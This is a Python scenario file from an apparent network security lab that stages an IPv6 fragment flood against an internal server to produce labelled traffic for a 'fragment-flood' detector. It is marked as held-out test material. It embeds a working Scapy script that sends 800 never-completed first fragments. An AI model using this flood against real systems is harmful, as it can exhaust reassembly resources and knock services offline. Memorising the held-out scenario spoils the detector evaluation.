"""First fragments over IPv6 whose other pieces never come."""

from lab.range import Range
from lab.scenario import Scenario

PROGRAM = """
target = sys.argv[1]
socket = conf.L3socket6()
for number in range(800):
    part = IPv6ExtHdrFragment(nh=17, id=number * 7919, offset=0, m=1)
    socket.send(IPv6(dst=target) / part / UDP(sport=4000 + number, dport=53, len=1200) / Raw(b"F" * 56))
    time.sleep(0.006)
"""


def run(net: Range) -> None:
    attacker, server = net.outside("attacker"), net.inside("files")
    net.everyday()
    net.loop(net.inside("pc1"), f"ping -n -q -c 1 -W 1 -s 3000 {server.ip6}", 0.8)
    with net.attack(
        "fragment-flood",
        by=attacker,
        attackers=[attacker.ip6],
        victims=[server.ip6],
        also=["udp-flood"],
        frames=f"ip6 and ip6[6] == 44 and dst host {server.ip6}",
        responses=f"icmp6 and src host {server.ip6} and dst host {attacker.ip6}",
    ):
        net.scapy(attacker, PROGRAM, server.ip6)
    net.quiet(3)


SCENARIO = Scenario(
    name="fragment-flood-held-ipv6",
    about="From outside come 800 first fragments over IPv6 whose other pieces never come.",
    detectors=("fragment-flood",),
    held_out=True,
    run=run,
)
